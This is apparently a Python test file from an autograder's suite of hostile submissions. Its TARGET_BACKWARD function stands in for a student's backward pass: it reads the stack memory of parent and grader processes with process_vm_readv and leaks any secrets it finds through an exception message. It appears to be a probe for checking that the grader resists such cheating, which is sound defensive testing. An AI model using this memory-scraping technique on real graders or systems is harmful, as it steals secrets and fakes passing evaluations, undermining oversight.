"""process_vm_readv (no attach) of the stack of its ancestors and of anything that looks like the grader, and
raises the secrets in it

attacks: backward
earns nothing in: checks that call the backward or train the net
containment: isolated
"""
from autograder.validation.attacks.shared.ctypes_libc import ctypes, libc
from autograder.validation.attacks.shared.grader_pids import grader_pids, looks_like_grader, secrets_in

class Iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]


libc.process_vm_readv.restype = ctypes.c_ssize_t

def TARGET_BACKWARD(dout, cache):

    found = []
    for pid in grader_pids():
        try:
            with open('/proc/%d/maps' % pid) as f:
                stack = next(line for line in f if line.rstrip().endswith('[stack]'))
        except (OSError, StopIteration):
            continue
        start, end = (int(x, 16) for x in stack.split()[0].split('-'))
        size = min(end - start, 256 << 10)
        buffer = ctypes.create_string_buffer(size)
        local = Iovec(ctypes.cast(buffer, ctypes.c_void_p), size)
        remote = Iovec(ctypes.c_void_p(end - size), size)
        got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if got > 0:
            if looks_like_grader(pid):
                found.append('bnkit-hostile-NAME read %d bytes of %d' % (got, pid))
            found += secrets_in(buffer.raw[:got])
    if found:
        raise RuntimeError(' | '.join(dict.fromkeys(found))[:480])
    raise NotImplementedError
